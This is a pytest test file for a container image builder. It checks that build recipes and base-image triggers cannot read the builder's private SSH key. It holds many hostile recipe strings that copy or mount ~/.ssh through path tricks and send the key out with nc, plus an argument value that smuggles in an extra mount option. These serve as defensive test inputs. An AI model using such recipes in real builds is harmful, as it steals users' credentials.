"""Recipes and base images of strangers that name private files of the builder: nothing is read or sent."""

import os
import socket
import threading
from collections.abc import Iterator
from dataclasses import dataclass, field
from pathlib import Path

import images
import pytest
from building import Builds
from registries import RealRegistry
from tools import tool

KEY = b"PRIVATE-KEY-9f3a6c1d"


@dataclass
class Listener:
    """Counts what is sent to a port of this machine."""

    port: int = 0
    received: bytearray = field(default_factory=bytearray)


@pytest.fixture
def listener() -> Iterator[Listener]:
    found = Listener()
    with socket.create_server(("127.0.0.1", 0)) as server:
        found.port = server.getsockname()[1]

        def serve() -> None:
            while True:
                try:
                    connection, _ = server.accept()
                except OSError:
                    return
                with connection:
                    while data := connection.recv(1 << 16):
                        found.received.extend(data)

        thread = threading.Thread(target=serve, daemon=True)
        thread.start()
        yield found
        server.shutdown(socket.SHUT_RDWR)
    thread.join(10)


@pytest.fixture(scope="module")
def made(tmp_path_factory: pytest.TempPathFactory) -> Builds:
    tool("busybox")
    found = Builds(tmp_path_factory.mktemp("references"))
    found.base()
    return found


@pytest.fixture
def builds(made: Builds) -> Builds:
    """A home with a private key, which is also a root file system's directory."""
    private = made.folder / "home" / ".ssh"
    private.mkdir(parents=True, exist_ok=True)
    private.chmod(0o700)
    (private / "id").write_bytes(KEY)
    made.variables["HOME"] = str(made.folder / "home")
    return made


def leaked(builds: Builds) -> list[Path]:
    """The files of the store in which the key is."""
    return [
        Path(top) / name
        for top, _, names in os.walk(builds.folder / "store")
        for name in names
        if (path := Path(top) / name).is_file() and KEY in path.read_bytes()
    ]


#: A recipe that reads the key, in a context beside the home directory; PORT is the listener's.
_OUT = "RUN nc 127.0.0.1 PORT < /out"
_IN = "nc 127.0.0.1 PORT < /m/id"
ROADS = {
    "COPY --from": f"FROM base\nCOPY --from=rootfs:~/.ssh /id /out\n{_OUT}",
    "COPY --from, relative": f"FROM base\nCOPY --from=rootfs:../home/.ssh /id /out\n{_OUT}",
    "RUN --mount": f"FROM base\nRUN --mount=type=bind,from=rootfs:../home/.ssh,target=/m {_IN}",
    "RUN --mount, absolute": f"FROM base\nRUN --mount=from=rootfs:HOME/.ssh,target=/m {_IN}",
    "FROM": f"FROM rootfs:~/.ssh AS keys\nFROM base\nCOPY --from=keys /id /out\n{_OUT}",
    "FROM by ARG": "ARG H=HOME/.ssh\nFROM rootfs:${H} AS keys\nFROM base\nCOPY --from=keys /id /out\n"
    f"{_OUT}",
    "a path": f"FROM base\nCOPY --from=HOME/.ssh /id /out\n{_OUT}",
    "a link in the context": f"FROM base\nCOPY --from=rootfs:link /id /out\n{_OUT}",
    "a directory of the context": "FROM base\nCOPY --from=rootfs:. /Dockerfile /out",
    "layout": "FROM oci:../home/.ssh",
    "archive": "FROM oci-archive:../home/.ssh/id",
    "SIF": "FROM sif:HOME/.ssh/id",
    "squashfs": "FROM squashfs:~/.ssh/id",
    "localimage": "Bootstrap: localimage\nFrom: HOME/.ssh\n%post\n    nc 127.0.0.1 PORT < /id",
    "localimage, relative": "Bootstrap: localimage\nFrom: ../home/.ssh\n%post\n    nc 127.0.0.1 PORT < /id",
    "template": "Bootstrap: localimage\nFrom: {{ H }}\n%arguments\n    H=rootfs:HOME/.ssh\n%post\n    true",
    "From": "Bootstrap: docker\nFrom: rootfs:HOME/.ssh\n%post\n    nc 127.0.0.1 PORT < /id",
    "files from": "Bootstrap: docker\nFrom: base\n%files from rootfs:HOME/.ssh\n    /id /out",
}


def written(text: str, builds: Builds, listener: Listener) -> str:
    return text.replace("PORT", str(listener.port)).replace("HOME", f"{builds.folder}/home") + "\n"


@pytest.mark.parametrize("road", ROADS)
def test_a_recipe_reads_no_private_file(builds: Builds, listener: Listener, road: str) -> None:
    text = written(ROADS[road], builds, listener)
    said = builds.build(text, {"link": "-> ../home/.ssh"}, code=2)
    assert "a recipe may name only image files in its context" in said.err
    assert "Dockerfile:" in said.err
    assert "bareboat image pull" in said.err
    assert not listener.received
    assert leaked(builds) == []


def test_a_variable_of_a_mount_is_one_value(builds: Builds, listener: Listener) -> None:
    text = f"FROM base\nARG M=,from=rootfs:HOME/.ssh\nRUN --mount=target=/m$M {_IN}"
    said = builds.build(written(text, builds, listener), {"link": "-> ../home/.ssh"}, code=1)
    assert "RUN exited with code 1" in said.err
    assert not listener.received
    assert leaked(builds) == []


@pytest.mark.parametrize("road", ROADS)
def test_it_is_refused_before_the_first_step(builds: Builds, listener: Listener, road: str) -> None:
    text = written(ROADS[road], builds, listener)
    said = builds.build(text, {"link": "-> ../home/.ssh"}, "--dry-run", code=2)
    assert "a recipe may name only image files in its context" in said.err


def test_a_base_image_adds_no_instructions(
    builds: Builds, listener: Listener, registry: RealRegistry
) -> None:
    trigger = written("COPY --from=rootfs:../home/.ssh /id /out", builds, listener).strip()
    name = images.upload(registry, images.pack(images.busybox(), OnBuild=[trigger]), "app:1")
    builds.variables["BAREBOAT_PLAIN_HTTP"] = registry.address
    said = builds.build(f"FROM {name}\n", {}, code=2)
    assert trigger in said.err
    assert leaked(builds) == []


def test_a_name_is_no_path_below_the_working_directory(builds: Builds) -> None:
    """`FROM keys/private` is an image of Docker Hub, although there is a directory of this name."""
    context = builds.context("FROM keys/private\n")
    (builds.folder / "keys" / "private").mkdir(parents=True, exist_ok=True)
    (builds.folder / "keys" / "private" / "id").write_bytes(KEY)
    builds.variables["https_proxy"] = "http://127.0.0.1:1"  # no registry can be reached
    said = builds.bareboat("image", "build", context, code=6)
    assert "docker.io/keys/private" in said.err
    assert leaked(builds) == []


def test_what_the_user_types_is_read(builds: Builds) -> None:
    """A directory as the value of a build argument, an image file in the context, and a name in the store."""
    root = builds.folder / "root"
    if not root.exists():
        builds.bareboat("image", "save", "base", f"rootfs:{root}")
    text = "ARG BASE\nFROM ${BASE}\nRUN test -x /bin/busybox\n"
    builds.build(text, {}, "--build-arg", f"BASE=rootfs:{root}")
    definition = "Bootstrap: localimage\nFrom: {{ BASE }}\n%post\n    test -x /bin/busybox\n"
    builds.build(definition, {}, "--build-arg", f"BASE=rootfs:{root}")
    context = builds.context("FROM oci-archive:base.tar\nRUN test -x /bin/busybox\n")
    builds.bareboat("image", "save", "base", f"oci-archive:{context}/base.tar")
    builds.bareboat("image", "build", context)
    builds.bareboat("image", "pull", f"rootfs:{root}", "--name", "typed")
    builds.build("FROM typed AS tool\nFROM base\nCOPY --from=tool /bin/busybox /b\n")


def test_an_image_file_that_changed_is_read_again(builds: Builds) -> None:
    context = builds.context("FROM oci-archive:base.tar\nRUN test -e /mark\n")
    builds.bareboat("image", "save", "base", f"oci-archive:{context}/base.tar")
    builds.bareboat("image", "build", context, code=1)
    builds.build("FROM base\nRUN echo 1 > /mark\n", {}, "-t", "marked:1")
    (context / "base.tar").unlink()
    builds.bareboat("image", "save", "marked:1", f"oci-archive:{context}/base.tar")
    builds.bareboat("image", "build", context)
